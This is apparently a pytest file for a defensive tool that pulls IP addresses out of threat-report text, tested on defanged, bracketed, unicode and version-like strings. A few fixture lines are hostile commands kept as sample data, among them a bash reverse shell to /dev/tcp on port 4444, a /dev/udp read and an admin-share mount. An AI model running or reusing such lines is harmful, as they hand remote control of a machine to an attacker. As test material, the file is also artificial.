"""A sheet of lines as reports have them: what each names, and what only looks like an address."""

from __future__ import annotations

import pytest

from ipskeptic.intake.scan import scan_block
from tests.intake.scan_laws import check_places, check_tally

# (what is special, the line, what it names).
NAMED = [
    ("a part in brackets", "beacon to 198.51.100.[7]", ["198.51.100.7"]),
    ("all parts but the first in brackets", "to 198.[51].[100].[7], twice", ["198.51.100.7"]),
    ("the first part in brackets", "beacon to [198].51.100.7", ["198.51.100.7"]),
    ("a part in round brackets", "beacon to 198.51.100.(7)", ["198.51.100.7"]),
    ("-dot-", "beacon to 198-dot-51-dot-100-dot-7", ["198.51.100.7"]),
    ("_dot_", "beacon to 198_dot_51_dot_100_dot_7", ["198.51.100.7"]),
    ("period, glued", "beacon to 198period51period100period7", ["198.51.100.7"]),
    ("two kinds of brackets", "at 198[.)51(.]100{.}7", ["198.51.100.7"]),
    ("a backslash in a character class", r"^198\.51\.100\.7(?::443)?$", ["198.51.100.7"]),
    ("an Arabic full stop", "عنوان 198۔51۔100۔7", ["198.51.100.7"]),
    ("a middle dot", "addr 198·51·100·7", ["198.51.100.7"]),
    ("a footnote, raised", "seen at 198.51.100.7¹ and later", ["198.51.100.7"]),
    ("a shell's device", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", ["198.51.100.7"]),
    ("the same for UDP", "cat < /dev/udp/203.0.113.9/53", ["203.0.113.9"]),
    ("the host of a page about it", "https://lookup.example/203.0.113.9", ["203.0.113.9"]),
    ("with capitals", "HTTPS://LOOKUP.EXAMPLE/203.0.113.9", ["203.0.113.9"]),
    ("a folder of its name", "loot/198.51.100.7/passwd", ["198.51.100.7"]),
    ("a file of its name", "capture 198.51.100.7.pcap", ["198.51.100.7"]),
    ("the same behind a word", "dump-198.51.100.7.log", ["198.51.100.7"]),
    ("a share", r"net use \\198.51.100.7\c$", ["198.51.100.7"]),
    ("a share, escaped", r'"\\\\198.51.100.7\\c$"', ["198.51.100.7"]),
    ("behind an agent", "the agent 198.51.100.7 answered", ["198.51.100.7"]),
    ("behind an agent and a colon", "Agent: 198.51.100.7", ["198.51.100.7"]),
    ("behind a table", "in table 198.51.100.7 stands alone", ["198.51.100.7"]),
    ("behind a program", "Redis 198.51.100.7 was open", ["198.51.100.7"]),
    ("behind a program, with a port", "Redis 192.0.2.7:6379 was open", ["192.0.2.7"]),
    ("behind a name of malware", "NightBot 192.0.2.7", ["192.0.2.7"]),
    ("French: towards", "connexion vers 198.51.100.7", ["198.51.100.7"]),
    ("small, behind a name", "c2[.]example 5.8.18.7", ["5.8.18.7"]),
    ("small, behind a verb", "hosts contacted 5.8.18.7", ["5.8.18.7"]),
    ("small, behind a French word", "depuis 5.8.18.7", ["5.8.18.7"]),
    ("small, behind a word with an accent", "évènement 5.8.18.7", ["5.8.18.7"]),
    ("small, behind a field", "RemoteAddr 5.8.18.7", ["5.8.18.7"]),
    ("a range with a tilde", "198.51.100.7~198.51.100.9", ["198.51.100.7", "198.51.100.9"]),
    ("added up", "198.51.100.7+198.51.100.9", ["198.51.100.7", "198.51.100.9"]),
    ("after a version", "OpenSSL 1.0.2.14 (198.51.100.7)", ["198.51.100.7"]),
    ("listed after a version", "versions 1.0.2.14, 198.51.100.7", ["198.51.100.7"]),
    ("at an amount's place", "EUR 198.51.100.7", ["198.51.100.7"]),
    ("before a word of versions", "198.51.100.7 build server", ["198.51.100.7"]),
    ("and earlier ones", "198.51.100.7 and previous C2s", ["198.51.100.7"]),
    ("an arrow", "c2.example => 5.8.18.7", ["5.8.18.7"]),
    ("small, behind an option", "iptables -s 5.8.18.7 -j DROP", ["5.8.18.7"]),
    ("a prefix with a blank", "198.51.100.0 /24 is theirs", ["198.51.100.0/24"]),
    ("no prefix", "198.51.100.7 /24", ["198.51.100.7"]),
    ("every address, with a port", "listens on [::]:443", ["::"]),
    ("half brackets around colons", "2001[:db8[:1[:2[:3[:4[:5[:6", ["2001:db8:1:2:3:4:5:6"]),
    ("the other half", "2001:]db8:]1:]2::]6", ["2001:db8:1:2::6"]),
    ("mapped, defanged", "client ::ffff:198[.]51[.]100[.]7", ["198.51.100.7"]),
    ("IPv6 behind a scheme without brackets", "http://2001:db8::2/x", ["2001:db8::2"]),
    ("IPv6 in two pairs", "2001:db8[:][:]2", ["2001:db8::2"]),
]
REFUSED = [
    ("a field and its value", '"FileVersion","1.0.0.1"', "version"),
    ("fixed in", "fixed in 3.2.1.4", "version"),
    ("patched in", "the bug was patched in 12.2.1.4.", "version"),
    ("upgrade to", "upgrade to 7.0.1.1", "version"),
    ("prior to", "all releases prior to 12.2.1.4", "version"),
    ("French: fixed in", "corrigé dans 12.2.1.4", "version"),
    ("at least", "needs >= 12.1.0.7", "version"),
    ("about", "~12.1.0.7", "version"),
    ("and more", "12.1.0.7+", "version"),
    ("a server of a program", "Oracle WebLogic Server 12.2.1.4", "version"),
    ("a program with a dash", "PAN-OS 11.2.9.1", "version"),
    ("a program of two words", "Citrix ADC 13.1.48.47", "version"),
    ("a program with a dot", "X-Powered-By: ASP.NET 4.0.0.1", "version"),
    ("begins with 0", "PuTTY 0.70.0.0", "version"),
    ("a weak word before a version", "kernel 5.4.0.26", "version"),
    ("an archive's name", "fp_21.0.0.242_archive.zip", "version"),
    ("a folder", r"C:\Program Files\App\12.1.0.7\app.exe", "version"),
    ("a folder, escaped", r"C:\\Program Files (x86)\\12.1.0.7\\app.exe", "version"),
    ("CPE 2.3", "cpe:2.3:a:example:server:12.2.1.3:*:*", "version"),
    ("CPE 2.2", "cpe:/a:example:server:12.2.1.4", "version"),
    ("a reference behind a version", "Apache Struts 2.3.1.[12]", "version"),
    ("an amount", "Rp 1.250.100.200", "amount"),
    ("Gecko's own", "(Windows NT 5.1; en-US; rv:1.9.2.13) Gecko", "version"),
    ("a scanner", "AntiVir     7.11.97.216", "version"),
    ("a scanner with a number", "VBA32 3.12.24.2", "version"),
    ("number of a version", "File Version Number: 1.0.0.1", "version"),
    ("Spanish", "Versión 2.0.1.4", "version"),
    ("Russian", "версия 2.0.1.4", "version"),
    ("Chinese", "版本2.0.1.4", "version"),
    ("a field of a URL", "?app_ver=2.0.0.12&x", "version"),
    ("a name that ends in a digit and a letter", "Log4j 2.15.0.1", "version"),
    ("a program's agent", "MicroMessenger/8.0.2.46", "user agent"),
    ("a serial number without its zero", "1:23:45:67:89:ab:cd:ef", "fingerprint"),
    ("numbers with two colons", "10:20::30", "part of a program"),
]
NOTHING = [
    ("four items", "1 · 2 · 3 · 4"),
    ("masked", "198.51.100.x and 198.51.x.x"),
    ("masked with stars", "198.51.100.* and 198.51.*.*"),
    ("left out", "198.51.[redacted].7"),
    ("Flash's commas", "x-flash-version: 21,0,0,242"),
    ("a dump", "3100 3200 2e00  1.2...8.6...1.1."),
]


@pytest.mark.parametrize(("text", "expected"), [line[1:] for line in NAMED])
def test_what_a_line_names(text: str, expected: list[str]) -> None:
    """Whatever stands around it."""
    check_places(text)
    check_tally(text.encode(), [None])

    found = [one for one in scan_block(text) if one.target]
    assert [one.target.text for one in found if one.target] == expected


@pytest.mark.parametrize(("text", "decision"), [line[1:] for line in REFUSED])
def test_what_only_looks_like_one(text: str, decision: str) -> None:
    """One run, refused by name."""
    check_tally(text.encode(), [None])

    assert [one.decision for one in scan_block(text)] == [decision]


@pytest.mark.parametrize("text", [line[1] for line in NOTHING])
def test_what_is_not_even_like_one(text: str) -> None:
    """No address, in no reading."""
    check_tally(text.encode(), [None])

    assert [one for one in scan_block(text) if one.target] == []
